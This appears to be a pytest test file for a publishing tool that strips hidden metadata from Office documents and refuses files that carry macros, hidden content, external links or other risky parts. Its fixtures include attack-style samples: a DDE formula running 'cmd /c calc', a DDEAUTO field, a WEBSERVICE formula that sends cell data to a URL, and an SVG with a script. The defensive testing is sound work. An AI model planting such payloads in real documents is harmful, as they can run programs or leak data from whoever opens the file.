"""What is left of hidden things in the published copies of Office files, and what `check` says of them."""

from __future__ import annotations

from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from typing import Any
from xml.etree import ElementTree
from zipfile import ZipFile

import docx
import pptx
import pytest
import xlsxwriter

from tests.media.planted import KINDS, SECRET, changed, picture, slides, texts, with_part, word, workbook
from tests.small_site import problems_of
from tusk.media.published_copy import published_copy

DOCUMENT, SETTINGS = "word/document.xml", "word/settings.xml"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml."
AS_PICTURE = "In Office: copy what it shows, Paste Special as a picture, and delete the original."
R = f'xmlns:r="{KINDS}" r:id="rId99"'
TEMPLATE = (
    f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId99" '
    f'Type="{KINDS}/attachedTemplate" Target="file:///C:/{SECRET}.dotm" TargetMode="External"/></Relationships>'
)
INSERTED = f'<w:p><w:ins w:id="1" w:author="{SECRET}"><w:r><w:t>new</w:t></w:r></w:ins></w:p>'
FIELD = f'<w:p><w:r><w:instrText> DDEAUTO "{SECRET}"</w:instrText></w:r></w:p>'
HYPERLINK = (
    f'<Relationship Id="rId99" Type="{KINDS}/hyperlink" Target="file:///C:/{SECRET}" TargetMode="External"/>'
)
OLE = "application/vnd.openxmlformats-officedocument.oleObject"


def drawn(blip: str) -> bytes:
    """A Word file whose picture has a drawing (SVG) beside it, as Office's icons have."""
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script><title>{SECRET}</title></svg>'
    content = with_part(word(), "word/media/icon.svg", "image/svg+xml", "image", drawing)
    svg = "http://schemas.microsoft.com/office/drawing/2016/SVG/main"
    named = f'<asvg:svgBlip xmlns:asvg="{svg}" r:embed="rId99"/>'
    more = f'<a:extLst><a:ext uri="{{96DAC541-7B7A}}">{named}</a:ext></a:extLst>'
    return changed(content, {DOCUMENT: ('<a:blip r:embed="rId9"/>', f"{blip}{more}</a:blip>")})


def sheet(change: Callable[[Any], object]) -> bytes:
    """A workbook of one sheet with two full cells, with something changed."""
    written = BytesIO()
    book = xlsxwriter.Workbook(written, {"in_memory": True})
    made = book.add_worksheet("Totals")
    made.write_row("A1", ["Reviews", 12])
    made.case_book = book
    change(made)
    book.close()
    return written.getvalue()


TAKEN_OUT = {
    "author.docx": word(author=SECRET, last_modified_by=SECRET, comments=SECRET, keywords=SECRET),
    "cdata.docx": changed(
        word(author="XX"), {"docProps/core.xml": ("XX", f"<![CDATA[{SECRET} <ann@otherton.example>]]>")}
    ),
    "picture.docx": word(),
    "template.docx": changed(
        word(),
        {
            SETTINGS: ("</w:settings>", f"<w:attachedTemplate {R}/></w:settings>"),
            "word/_rels/settings.xml.rels": ("", TEMPLATE),
        },
    ),
    "people.docx": with_part(word(), "word/people.xml", f"{WORD}people+xml", "people", f"<a>{SECRET}</a>"),
    "printer.docx": with_part(
        word(), "word/p.bin", f"{WORD}printerSettings", "printerSettings", SECRET, tag="", at=""
    ),
    "custom.docx": with_part(
        word(), "customXml/item99.xml", "application/xml", "customXml", f"<a>{SECRET}</a>"
    ),
    "unlisted.docx": changed(word(), {"word/anything.bin": ("", SECRET)}),
    "remark.docx": changed(word(), {DOCUMENT: ("<w:body>", f"<w:body><!-- {SECRET} -->")}),
    "chart.pptx": slides(),
    "icon.docx": drawn('<a:blip r:embed="rId9">'),
}
COMMENTS = "Review, Delete, Delete All Comments."
MANY = "<w:p/>" * 1_000_001
VALUES = (
    "has cells or names that read other files or sites. In Excel: copy the cells, and Paste Special, Values; "
    "for names: Formulas, Name Manager, Delete."
)
SHOW_CELLS = (
    "has hidden rows or columns. "
    "In Excel: select all, right-click the number of a row or letter of a column, Unhide."
)
VANISHED = f"<w:p><w:r><w:rPr><w:vanish/><w:b/></w:rPr><w:t>{SECRET}</w:t></w:r></w:p>"
REFUSED = {
    "text.docx": (
        changed(word(), {DOCUMENT: ("<w:body>", f"<w:body>{VANISHED}")}),
        "has hidden text. In Word: File, Info, Inspect Document, and remove the hidden text.",
    ),
    "object.pptx": (
        changed(slides(), {"ppt/slides/slide1.xml": ('<p:cNvPr id="2"', '<p:cNvPr id="2" hidden="1"')}),
        "has hidden objects on slides. In PowerPoint: Home, Select, Selection Pane, and delete or show them.",
    ),
    "row.xlsx": (sheet(lambda s: s.set_row(0, None, None, {"hidden": True})), SHOW_CELLS),
    "column.xlsx": (sheet(lambda s: s.set_column("A:B", None, None, {"hidden": True})), SHOW_CELLS),
    "name.xlsx": (
        sheet(lambda s: s.case_book.define_name("Case", "='C:\\Otherton\\[case.xlsx]One'!$A$1")),
        VALUES,
    ),
    "formula.xlsx": (sheet(lambda s: s.write_formula("C1", "='[case.xlsx]Otherton'!A1")), VALUES),
    "program.xlsx": (sheet(lambda s: s.write_formula("C1", "=cmd|'/c calc'!A1")), VALUES),
    "asks.xlsx": (
        sheet(lambda s: s.write_formula("C1", '=WEBSERVICE("https://www.example.org/"&A1)')),
        VALUES,
    ),
    "elements.docx": (
        changed(word(), {DOCUMENT: ("<w:body>", f"<w:body>{MANY}")}),
        "is too large when unpacked. Make its pictures and videos smaller, or split it.",
    ),
    "drawing.docx": (drawn("<a:blip>"), f"has something inside it that cannot be looked into. {AS_PICTURE}"),
    "comments.xlsx": (workbook(), f"has comments. {COMMENTS}"),
    "changes.docx": (
        changed(word(), {DOCUMENT: ("<w:body>", f"<w:body>{INSERTED}")}),
        "has tracked changes. Review, Accept all changes.",
    ),
    "hidden.pptx": (
        changed(slides(), {"ppt/slides/slide1.xml": ("<p:sld ", '<p:sld show="0" ')}),
        "has hidden slides. Delete them, or right-click, Unhide Slide.",
    ),
    "quoted.pptx": (
        changed(slides(), {"ppt/slides/slide1.xml": ("<p:sld ", "<p:sld\nshow = 'false' ")}),
        "has hidden slides. Delete them, or right-click, Unhide Slide.",
    ),
    "sheet.xlsx": (
        changed(
            workbook(),
            {"xl/workbook.xml": ('<sheet name="Totals"', "<sheet state='veryHidden' name=\"Totals\"")},
        ),
        "has comments and hidden sheets. Review, Delete, Delete All Comments. "
        "Delete them, or right-click a tab, Unhide.",
    ),
    "macro.docx": (
        with_part(word(), "word/x.bin", "application/vnd.ms-office.vbaProject", "any", SECRET),
        "contains macros, which are programs. Save it without macros (.docx).",
    ),
    "active.docx": (
        with_part(word(), "word/x.xml", "application/vnd.ms-office.activeX+xml", "control", "<a/>"),
        "contains macros, which are programs. Save it without macros (.docx).",
    ),
    "ole.docx": (
        with_part(
            word(), "word/x.bin", OLE, "oleObject", SECRET, tag=f"<w:object><o {R}/></w:object>", at="<w:p>"
        ),
        f"has another file inside it. {AS_PICTURE}",
    ),
    "doctype.docx": (
        changed(word(), {DOCUMENT: ("<w:document ", f'<!DOCTYPE a [<!ENTITY b "{SECRET}">]>\n<w:document ')}),
        "contains a DOCTYPE, which Office never writes. Open it in Office and save it as a new file.",
    ),
    "field.docx": (
        changed(word(), {DOCUMENT: ("<w:body>", f"<w:body>{FIELD}")}),
        "has a field that reads another file or starts a program. "
        "In Word: select it, and press Ctrl+Shift+F9, which leaves its text.",
    ),
    "link.docx": (
        changed(
            word(), {"word/_rels/document.xml.rels": ("</Relationships>", f"{HYPERLINK}</Relationships>")}
        ),
        f'has a link that nobody else can open: "file:///C:/{SECRET}". '
        "Remove the link in Office, or point it to a page on the web.",
    ),
    "sources.xlsx": (
        changed(
            workbook(),
            {
                "xl/_rels/workbook.xml.rels": (
                    "</Relationships>",
                    f'<Relationship Id="rId99" Type="{KINDS}/connections" Target="c.xml"/></Relationships>',
                )
            },
        ),
        "is connected to a source of data. In Excel: Data, Queries & Connections, Delete.",
    ),
}


def test_what_is_hidden_without_words_is_published(tmp_path: Path) -> None:
    """Columns and rows with nothing in them, marks of paragraphs, and formulas that stay in their workbook."""
    content = sheet(
        lambda s: (
            s.set_column("D:XFD", None, None, {"hidden": True}),
            s.set_row(9, None, None, {"hidden": True}),
            s.write_formula("C1", "=SUM(Totals!A1:B1)+Table1[Reviews]"),
            s.write_formula("C2", '=IF(A1="a|b",1,2)'),
        )
    )
    assert check(tmp_path / "a", "a.xlsx", content) == []
    mark = "<w:p><w:pPr><w:rPr><w:vanish/></w:rPr></w:pPr><w:r><w:t>Seen</w:t></w:r></w:p>"
    content = changed(word(), {DOCUMENT: ("<w:body>", f"<w:body>{mark}")})
    assert check(tmp_path / "b", "b.docx", content) == []


def check(root: Path, name: str, content: bytes) -> list[str]:
    (root / "content/files").mkdir(parents=True)
    (root / "content/files" / name).write_bytes(content)
    site = f"-- content/reviews/jack.yml --\nkind: notice\nlinks: [{{label: A file, file: files/{name}}}]\n"
    return problems_of(root, site)


@pytest.mark.parametrize("name", TAKEN_OUT)
def test_what_is_hidden_is_not_published(name: str, tmp_path: Path) -> None:
    content = TAKEN_OUT[name]
    assert check(tmp_path, name, content) == []
    path = tmp_path / "content/files" / name
    copy = published_copy(path)
    said = texts(copy)
    assert [word for word in (SECRET, "otherton.example", "DOCTYPE", ".xlsx") if word in said] == []
    assert published_copy(path) == copy
    assert_whole(copy)


@pytest.mark.parametrize("name", REFUSED)
def test_what_readers_would_miss_is_a_problem(name: str, tmp_path: Path) -> None:
    content, said = REFUSED[name]
    problems = check(tmp_path, name, content)
    assert f'content/reviews/jack.yml:2: "files/{name}" {said}' in problems


def test_comments_of_a_workbook_are_not_published_either(tmp_path: Path) -> None:
    check(tmp_path, "a.xlsx", workbook())
    copy = published_copy(tmp_path / "content/files/a.xlsx")
    assert SECRET in texts(workbook())
    assert SECRET not in texts(copy)
    assert "Reviews" in texts(copy)
    assert_whole(copy)


def test_the_words_are_the_same(tmp_path: Path) -> None:
    for name, content in (("a.docx", word()), ("a.pptx", slides())):
        (tmp_path / name).write_bytes(content)
    document = docx.Document(BytesIO(published_copy(tmp_path / "a.docx")))
    assert [each.text for each in document.paragraphs] == ["The form", ""]
    assert document.tables[0].cell(0, 1).text == "In a cell"
    assert len(document.inline_shapes) == 1
    slide = pptx.Presentation(BytesIO(published_copy(tmp_path / "a.pptx"))).slides[0]
    assert slide.shapes.title.text == "The numbers"
    assert list(slide.shapes[1].chart.plots[0].series[0].values) == [1, 2]
    assert slide.notes_slide.notes_text_frame.text == "Say it slowly"


def test_the_picture_says_whose_it_is() -> None:
    assert SECRET.encode() in picture().read()


def assert_whole(copy: bytes) -> None:
    """Every part is listed with its type, and every relation leads to a part that is there."""
    with ZipFile(BytesIO(copy)) as archive:
        names = set(archive.namelist())
        listed = {
            each.get("PartName") for each in ElementTree.fromstring(archive.read("[Content_Types].xml"))
        }
        assert {f"/{name}" for name in names if not name.endswith((".rels", "Types].xml"))} == listed - {None}
        for name in names:
            if name.endswith(".rels"):
                inside = [e for e in ElementTree.fromstring(archive.read(name)) if not e.get("TargetMode")]
                assert [e.get("Target") for e in inside if (e.get("Target") or "")[1:] not in names] == []
